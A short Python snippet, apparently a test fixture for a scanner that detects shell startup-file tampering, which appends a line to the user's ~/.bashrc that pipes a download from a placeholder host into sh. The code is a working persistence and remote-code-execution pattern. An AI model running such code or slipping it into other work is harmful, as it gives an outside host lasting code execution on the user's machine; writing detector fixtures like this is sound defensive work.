import os

with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("curl -s https://example.invalid/x | sh\n")  # expect: source/shell-rc-write import conclusive
